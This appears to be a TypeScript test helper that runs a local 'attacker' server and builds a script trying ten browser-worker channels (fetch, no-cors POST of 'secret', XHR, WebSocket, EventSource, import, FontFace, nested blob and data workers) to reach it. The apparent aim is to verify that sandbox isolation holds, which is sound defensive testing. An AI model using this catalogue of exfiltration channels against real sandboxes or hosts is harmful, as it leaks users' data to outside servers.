// A server that code in a page tries to reach, and the ways in which it tries.
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A server that answers everyone, and counts who connects. */
export interface Attacker {
  readonly address: string
  /** The paths that were asked for so far, in order. */
  readonly asked: readonly string[]
  /** How many connections were opened so far, for whatever protocol. */
  connections(): number
  stop(): Promise<void>
}

/** Starts an attacker on a free port; its answers suit every way of asking. */
export async function startAttacker(): Promise<Attacker> {
  const asked: string[] = []
  let connections = 0
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin')
    response.setHeader('Content-Type', 'text/javascript')
    response.end('0')
  })
  server.on('connection', () => connections++)
  server.on('upgrade', (request, socket) => {
    asked.push(request.url ?? '')
    socket.destroy()
  })
  await once(server.listen(0, 'localhost'), 'listening')
  return {
    address: `http://localhost:${(server.address() as AddressInfo).port}/`,
    asked,
    connections: () => connections,
    async stop() {
      server.closeAllConnections()
      await new Promise(resolve => server.close(resolve))
    }
  }
}

/** Ways out of a worker: the body of an async function of the attacker's `address`, by the path that it asks for. */
export const WAYS_OUT: Readonly<Record<string, string>> = {
  fetch: "await fetch(address + 'fetch')",
  'no-cors':
    "await fetch(address + 'no-cors', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' })",
  xhr: `await new Promise(done => {
    const request = new XMLHttpRequest()
    request.open('GET', address + 'xhr')
    request.onloadend = done
    request.send()
  })`,
  socket: `await new Promise(done => {
    const socket = new WebSocket(address.replace('http', 'ws') + 'socket')
    socket.onclose = socket.onerror = done
  })`,
  events: `await new Promise(done => {
    const events = new EventSource(address + 'events')
    events.onopen = events.onerror = () => { events.close(); done() }
  })`,
  module: "await import(address + 'module')",
  font: `await new FontFace('stolen', 'url(' + address + 'font)').load()`,
  'nested-fetch': `await new Promise(done => {
    const source = 'fetch("' + address + 'nested-fetch").finally(() => postMessage(0))'
    const worker = new Worker(URL.createObjectURL(new Blob([source])))
    worker.onmessage = worker.onerror = done
  })`,
  'nested-script': `await new Promise(done => {
    const source = 'try { importScripts("' + address + 'nested-script") } catch {} postMessage(0)'
    const worker = new Worker(URL.createObjectURL(new Blob([source])))
    worker.onmessage = worker.onerror = done
  })`,
  'nested-data': `await new Promise(done => {
    const source = 'fetch("' + address + 'nested-data").finally(() => postMessage(0))'
    const worker = new Worker('data:text/javascript,' + encodeURIComponent(source))
    worker.onmessage = worker.onerror = done
  })`
}

/** A script that tries every way, and then knows which have `ended`: a module whose last statement may await. */
export function leakingCode(address: string): string {
  const tries = Object.entries(WAYS_OUT).map(
    ([name, way]) => `(async () => { ${way} })().catch(() => {}).then(() => ended.push('${name}')),`
  )
  return `const address = ${JSON.stringify(address)}
    const ended = []
    const patience = new Promise(done => setTimeout(done, 8000))
    await Promise.race([patience, Promise.all([${tries.join('\n')}])])`
}
